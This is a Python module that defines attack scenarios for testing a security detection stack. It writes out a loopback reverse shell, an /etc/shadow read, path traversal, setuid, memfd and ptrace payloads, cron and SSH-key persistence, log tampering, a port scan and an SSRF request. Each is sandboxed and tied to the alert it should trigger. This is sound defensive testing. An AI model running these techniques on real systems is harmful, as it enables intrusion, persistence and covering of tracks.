"""The attack scenarios of `scripts/simulate-attacks`: what each does and which alerts it expects.

Pure data and pure functions: a `Scenario` turns a `Target` (this run's sandbox, an
interpreter, a unique token, a listener port) into an `Action` for the vulnerable demo
routes (docs/simulations.md). Every action runs *inside* the stack: the demo upstream
executes it, so the probe (scoped to the stack) sees it. Nothing here writes outside the
sandbox except one file in /dev/shm, named by the token and removed by the runner.

The expected rule ids are the contract's default rule ids (detection contract, issue #7).
No two scenarios expect the same rule: an alert that arrives late cannot make a later
scenario pass. `ssrf` runs before `port_scan`: the scan's connects from the upstream are
SSRF alerts too, and would use up that rule's alert budget (rate limit) first. Each run's
token appears in every action whose alert would otherwise read the same as the previous
run's: the detector folds identical alerts for a minute, and a second run is a second attack.
"""

from __future__ import annotations

import shlex
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Literal

__all__ = [
    "SCENARIOS",
    "Action",
    "Exec",
    "Fetch",
    "ReadFile",
    "Sandbox",
    "Scenario",
    "Target",
    "select_scenarios",
]


@dataclass(frozen=True, slots=True)
class Exec:
    """POST /_vuln/exec: the web shell runs this argv (no shell unless argv asks for one)."""

    argv: tuple[str, ...]


@dataclass(frozen=True, slots=True)
class ReadFile:
    """GET /_vuln/file?path=: the upstream opens ``<its file root>/<path>`` itself.
    ``tag`` goes in the query too (``&tag=``), as scanners add a random parameter."""

    path: str
    tag: str = ""


@dataclass(frozen=True, slots=True)
class Fetch:
    """GET /_vuln/fetch?url=: the upstream itself connects to ``url`` (loopback only)."""

    url: str


Action = Exec | ReadFile | Fetch
# What the runner listens with while the action runs: nothing, a reverse-shell catcher
# (sends a harmless `id; exit`) on 127.0.0.1, or a tiny HTTP server standing for an internal
# service on a random address of 127.0.0.0/8 (the detector folds SSRF alerts by process and
# destination address for a minute: a new address makes each run's SSRF a new one).
Listener = Literal["none", "shell", "http"]


@dataclass(frozen=True, slots=True)
class Sandbox:
    """A run's sandbox: a throw-away directory that mirrors the real paths attackers touch
    (``<dir>/etc/cron.d``, ``<dir>/root/.ssh``, ``<dir>/var/log``), so path rules written as
    "ends with /etc/cron.d/..." match without touching the real ones."""

    dir: Path
    token: str

    @property
    def cron_file(self) -> Path:
        return self.dir / "etc" / "cron.d" / "sentinel-sim"

    @property
    def authorized_keys(self) -> Path:
        return self.dir / "root" / ".ssh" / "authorized_keys"

    @property
    def log_file(self) -> Path:
        return self.dir / "var" / "log" / "auth.log"

    @property
    def rotated_log(self) -> Path:
        return self.dir / "var" / "log" / "auth.log.1"

    @property
    def setuid_copy(self) -> Path:
        return self.dir / "usr" / "local" / "bin" / "sim-suid"

    @property
    def shm_file(self) -> Path:
        """Outside the sandbox by necessity: the scenario is about /dev/shm itself."""
        return Path("/dev/shm") / f"sentinel-sim-{self.token}"

    @property
    def directories(self) -> tuple[Path, ...]:
        return tuple(
            p.parent
            for p in (self.cron_file, self.authorized_keys, self.log_file, self.setuid_copy)
        )

    @property
    def seeded_files(self) -> dict[Path, bytes]:
        """Files the runner creates before the scenarios (the logs to tamper with)."""
        line = b"Jan  1 00:00:00 demo sshd[1]: sentinel-stack simulation log line\n"
        return {self.log_file: line * 20, self.rotated_log: line * 50}

    @property
    def outside(self) -> tuple[Path, ...]:
        """Paths outside ``dir`` a run may leave behind; the runner removes them."""
        return (self.shm_file,)


@dataclass(frozen=True, slots=True)
class Target:
    """What a scenario's action may use."""

    sandbox: Sandbox
    python: str  # an interpreter for `python -c` payloads (the runner's own)
    listener_port: int = 0
    listener_host: str = "127.0.0.1"


@dataclass(frozen=True, slots=True)
class Scenario:
    name: str
    summary: str
    expected: tuple[str, ...]
    action: Callable[[Target], Action]
    listener: Listener = "none"
    techniques: tuple[str, ...] = field(default=())


def _sh(command: str) -> Exec:
    return Exec(("/bin/sh", "-c", command))


def _q(path: Path) -> str:
    return shlex.quote(str(path))


# memfd_create, copy /bin/true in, exec it from /proc/self/fd: nothing touches the disk.
MEMFD_PAYLOAD = """\
import os
fd = os.memfd_create("sentinel-sim", 0)
with open("/bin/true", "rb") as f:
    data = f.read()
while data:
    data = data[os.write(fd, data):]
os.execv(f"/proc/self/fd/{fd}", ["sentinel-sim-memfd"])
"""

# Spawn a sleeping child of our own, PTRACE_ATTACH to it, detach, kill it.
PTRACE_PAYLOAD = """\
import ctypes, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
child = subprocess.Popen(["sleep", "30"])
try:
    if libc.ptrace(16, child.pid, None, None) != 0:  # PTRACE_ATTACH
        raise SystemExit(f"ptrace attach failed: errno {ctypes.get_errno()}")
    os.waitpid(child.pid, 0)
    libc.ptrace(17, child.pid, None, None)  # PTRACE_DETACH
finally:
    child.kill()
    child.wait()
"""

# A connect() sweep of common service ports on loopback; open ones are closed at once.
SCAN_PORTS = (21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 389, 443, 445, 993, 995, 1433,
              1521, 2049, 3306, 3389, 5432, 5900, 6379, 9200, 11211, 27017)  # fmt: skip
SCAN_PAYLOAD = f"""\
import socket
found = []
for port in {SCAN_PORTS!r}:
    s = socket.socket()
    s.settimeout(0.2)
    try:
        if s.connect_ex(("127.0.0.1", port)) == 0:
            found.append(port)
    finally:
        s.close()
print("open:", found)
"""

TRAVERSAL = "../" * 8 + "etc/passwd"
FAKE_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAISentinelStackSimulationNotARealKey sim@sentinel"


def _web_shell(t: Target) -> Action:
    return _sh(f"id; uname -a; echo sim-{t.sandbox.token}")


def _reverse_shell(t: Target) -> Action:
    # --norc --noprofile: an interactive bash would otherwise run the user's rc files (with
    # pyenv, for one, they rewrite files in ~), which is neither harmless nor the attack.
    shell = "bash --norc --noprofile -i"
    return Exec(("/bin/bash", "-c", f"{shell} >& /dev/tcp/127.0.0.1/{t.listener_port} 0>&1"))


def _sensitive_read(t: Target) -> Action:
    # Opens it; only a count of matching lines (0) comes back.
    return _sh(f"grep -c -- sim-{t.sandbox.token} /etc/shadow || true")


def _traversal(t: Target) -> Action:
    return ReadFile(TRAVERSAL, t.sandbox.token)


def _setuid(t: Target) -> Action:
    copy = _q(t.sandbox.setuid_copy)
    return _sh(f"cp /bin/true {copy} && chmod 4755 {copy}")


def _memfd(t: Target) -> Action:
    return Exec((t.python, "-c", MEMFD_PAYLOAD))


def _shm_exec(t: Target) -> Action:
    shm = _q(t.sandbox.shm_file)
    return _sh(f"cp /bin/true {shm} && chmod 755 {shm} && {shm}; rc=$?; rm -f {shm}; exit $rc")


def _ptrace(t: Target) -> Action:
    return Exec((t.python, "-c", PTRACE_PAYLOAD))


def _cron(t: Target) -> Action:
    entry = shlex.quote("* * * * * root /bin/true # sentinel-stack simulation")
    return _sh(f"echo {entry} > {_q(t.sandbox.cron_file)}")


def _authorized_keys(t: Target) -> Action:
    return _sh(f"echo {shlex.quote(FAKE_KEY)} >> {_q(t.sandbox.authorized_keys)}")


def _log_tampering(t: Target) -> Action:
    return _sh(f": > {_q(t.sandbox.log_file)}; rm -f {_q(t.sandbox.rotated_log)}")


def _port_scan(t: Target) -> Action:
    return Exec((t.python, "-c", SCAN_PAYLOAD))


def _ssrf(t: Target) -> Action:
    return Fetch(f"http://{t.listener_host}:{t.listener_port}/latest/meta-data/iam/")


SCENARIOS: tuple[Scenario, ...] = (
    Scenario(
        "web_shell",
        "the upstream runs `sh -c 'id; uname -a; echo sim-<token>'` for a web-shell request",
        ("web_server_spawned_shell",),
        _web_shell,
        techniques=("T1190", "T1059.004"),
    ),
    Scenario(
        "reverse_shell",
        "bash -i with stdio on /dev/tcp to a listener the runner opens on loopback",
        ("reverse_shell_dev_tcp", "reverse_shell_socket_stdio"),
        _reverse_shell,
        listener="shell",
        techniques=("T1059.004",),
    ),
    Scenario(
        "sensitive_read",
        "the web shell reads /etc/shadow (`grep -c sim-<token>`: only a count comes back)",
        ("sensitive_file_read",),
        _sensitive_read,
        techniques=("T1003.008",),
    ),
    Scenario(
        "traversal",
        f"GET /_vuln/file?path={TRAVERSAL}: the upstream opens a path with ../",
        ("traversal_read",),
        _traversal,
        techniques=("T1083",),
    ),
    Scenario(
        "setuid_bit",
        "copy /bin/true into the sandbox and chmod 4755 it",
        ("setuid_bit_set",),
        _setuid,
        techniques=("T1548.001",),
    ),
    Scenario(
        "memfd_exec",
        "memfd_create, copy /bin/true in, execute it from /proc/self/fd",
        ("fileless_exec_memfd",),
        _memfd,
        techniques=("T1620",),
    ),
    Scenario(
        "shm_exec",
        "copy /bin/true to /dev/shm/sentinel-sim-<token>, run it, delete it",
        ("exec_from_tmp_or_shm",),
        _shm_exec,
        techniques=("T1059",),
    ),
    Scenario(
        "ptrace",
        "spawn `sleep 30`, PTRACE_ATTACH to it, detach, kill it",
        ("ptrace_attach",),
        _ptrace,
        techniques=("T1055.008",),
    ),
    Scenario(
        "cron_write",
        "write a crontab line to <sandbox>/etc/cron.d/sentinel-sim",
        ("cron_write",),
        _cron,
        techniques=("T1053.003",),
    ),
    Scenario(
        "authorized_keys_write",
        "append a fake key to <sandbox>/root/.ssh/authorized_keys",
        ("authorized_keys_write",),
        _authorized_keys,
        techniques=("T1098.004",),
    ),
    Scenario(
        "log_tampering",
        "truncate <sandbox>/var/log/auth.log and delete auth.log.1",
        ("log_tampering",),
        _log_tampering,
        techniques=("T1070.002",),
    ),
    Scenario(
        "ssrf",
        "GET /_vuln/fetch?url=http://127.<random>:<port>/latest/meta-data/iam/ (an unlisted "
        "loopback service)",
        ("upstream_ssrf",),
        _ssrf,
        listener="http",
        techniques=("T1090",),
    ),
    Scenario(
        "port_scan",
        f"connect() to {len(SCAN_PORTS)} common ports on 127.0.0.1",
        ("loopback_port_scan",),
        _port_scan,
        techniques=("T1046",),
    ),
)


def select_scenarios(
    only: Sequence[str] | None, table: Iterable[Scenario] = SCENARIOS
) -> tuple[Scenario, ...]:
    """The scenarios named in ``only`` (table order), or all. ValueError names unknown ones."""
    table = tuple(table)
    if not only:
        return table
    known = {s.name for s in table}
    unknown = [name for name in only if name not in known]
    if unknown:
        raise ValueError(
            f"no scenario named {', '.join(unknown)}; choose from {', '.join(sorted(known))}"
        )
    wanted = set(only)
    return tuple(s for s in table if s.name in wanted)
